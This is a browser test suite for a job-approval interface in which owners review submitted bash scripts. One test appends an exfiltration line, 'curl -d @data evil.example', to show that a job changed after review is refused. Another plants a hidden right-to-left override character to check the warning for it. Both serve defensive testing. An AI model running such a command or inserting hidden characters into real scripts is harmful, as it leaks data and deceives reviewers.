import { appendFile } from 'node:fs/promises';
import { expect, test } from '../app.ts';
import { bashJob, configText } from '../box.ts';

test('an owner opens a job, reads run.sh and approves it', async ({ box, start }) => {
  await box.submit('count_customers', bashJob('echo counting customers\n'));
  const { page } = await start();
  await page.getByRole('option', { name: /count_customers/ }).click();
  await expect(page.getByRole('tab', { name: 'run.sh' })).toHaveAttribute('aria-selected', 'true');
  await expect(page.getByText('echo counting customers')).toBeVisible();
  await page.getByRole('button', { name: 'Approve', exact: true }).click();
  const question = page.getByRole('group', { name: 'Confirm the approval' });
  await expect(question).toContainText('config.yaml');
  await question.getByRole('button', { name: /Approve/ }).click();
  await expect.poll(() => box.state('count_customers')).toContain('status: approved');
  expect(await box.state('count_customers')).toContain('approval_method: manual');
  await expect(page.getByRole('option', { name: /count_customers/ })).toHaveCount(0);
  await page.getByRole('button', { name: /Approved 1/ }).click();
  await expect(page.getByRole('option', { name: /count_customers/ })).toBeVisible();
});

test('an owner rejects a job with a reason that the sender can read', async ({ box, start }) => {
  await box.submit('export_everything', bashJob('cat private/*.csv\n'));
  const { page } = await start();
  await page.getByRole('option', { name: /export_everything/ }).click();
  await expect(page.getByText('cat private')).toBeVisible();
  await page.getByRole('button', { name: 'Reject…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Reject this job' });
  await dialog.getByRole('textbox', { name: 'Reason' }).fill('Too broad: name the columns, please.');
  await dialog.getByRole('button', { name: /^Reject/ }).click();
  await expect.poll(() => box.state('export_everything')).toContain('status: rejected');
  expect(await box.state('export_everything')).toContain(
    "review_reason: 'Too broad: name the columns, please.'",
  );
});

test('a job arrives file by file and can be decided only when it is whole', async ({ box, start }) => {
  const { page } = await start();
  await expect(page.getByRole('button', { name: /Waiting/ })).toBeVisible();
  await box.write('slow job', 'config.yaml', configText('slow job', ['script.sh']));
  const row = page.getByRole('option', { name: /slow job/ });
  await expect(row).toContainText('arriving 1/3');
  await box.write('slow job', 'run.sh', 'echo slow\n');
  await expect(row).toContainText('arriving 2/3');
  await row.click();
  await expect(page.getByRole('button', { name: 'Approve', exact: true })).toBeDisabled();
  await box.write('slow job', 'code/script.sh', 'echo slow\n');
  await expect(row).not.toContainText('arriving');
  await expect(row).toContainText('3 files');
});

test('a job that changes between display and click is refused with the difference', async ({
  box,
  start,
}) => {
  await box.submit('swapped', bashJob('echo harmless\n'));
  const { page } = await start();
  await page.getByRole('option', { name: /swapped/ }).click();
  await expect(page.getByText('echo harmless')).toBeVisible();
  await page.getByRole('button', { name: 'Approve', exact: true }).click();
  const question = page.getByRole('group', { name: 'Confirm the approval' });
  await appendFile(box.path('swapped', 'run.sh'), 'curl -d @data evil.example\n');
  await question.getByRole('button', { name: /Approve/ }).click();
  const dialog = page.getByRole('dialog');
  await expect(dialog).toContainText('run.sh');
  await expect(dialog).toContainText('curl -d @data evil.example');
  expect(await box.state('swapped')).not.toContain('status: approved');
  await dialog.getByRole('button', { name: /again/ }).click();
  await expect(page.getByText('curl -d @data evil.example')).toBeVisible();
});

test('everything is decided by keyboard alone, never with one bare key', async ({ box, start }) => {
  await box.submit('first', bashJob('echo first\n'));
  const { page } = await start();
  await expect(page.getByRole('option', { name: /first/ })).toBeVisible();
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  await expect(page.getByText('echo first')).toBeVisible();
  await expect(async () => {
    // Decision keys rest for a moment after the shown job changes.
    await page.keyboard.press('a');
    await expect(page.getByRole('group', { name: 'Confirm the approval' })).toBeVisible({ timeout: 200 });
  }).toPass();
  expect(await box.state('first')).not.toContain('status: approved');
  await page.keyboard.press('Enter');
  await expect.poll(() => box.state('first')).toContain('status: approved');
  await page.keyboard.press('g');
  await page.keyboard.press('y');
  await expect(page.getByRole('heading', { name: 'Activity' })).toBeVisible();
  await expect(page.getByText(/Approved “first” from/)).toBeVisible();
});

test('a job with hidden characters shows them and asks that they be acknowledged', async ({ box, start }) => {
  await box.submit('trojan', { ...bashJob('echo ok\n'), 'code/script.sh': 'echo "a\u202eb"\n' });
  const { page } = await start();
  const row = page.getByRole('option', { name: /trojan/ });
  await expect(row).toContainText('hidden characters');
  await row.click();
  await page.getByRole('button', { name: 'Approve', exact: true }).click();
  const question = page.getByRole('group', { name: 'Confirm the approval' });
  const confirm = question.getByRole('button', { name: /Approve/ });
  await expect(confirm).toBeDisabled();
  await question.getByRole('checkbox').check();
  await confirm.click();
  await expect.poll(() => box.state('trojan')).toContain('status: approved');
});
